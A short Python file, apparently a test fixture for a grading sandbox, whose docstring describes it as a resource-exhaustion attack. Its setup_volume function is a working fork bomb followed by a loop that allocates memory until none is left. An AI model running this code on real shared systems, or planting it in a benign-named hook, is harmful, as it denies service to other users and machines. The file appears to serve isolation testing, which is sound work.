"""Attack: exhaust resources. A fork bomb (every child forks again and waits), then as much memory
as the process can get. While it runs, another learner may be graded beside it: their grade must
not change."""

import os
import signal
import time


def setup_volume(volume_path, container_path):
    children = 0
    deadline = time.monotonic() + 3
    while time.monotonic() < deadline:
        try:
            pid = os.fork()
        except OSError:
            time.sleep(0.05)
            continue
        if pid == 0:
            deadline = time.monotonic() + 3
            continue
        children += 1
        if children > 4000:
            break
    if os.getpid() != 1:  # the children stay until the check ends
        signal.pause()
    hoard = []
    try:
        while True:
            hoard.append(bytearray(256 << 20))
    except MemoryError:
        pass
    print(f"forked {children} children, held {len(hoard) * 256} MiB")
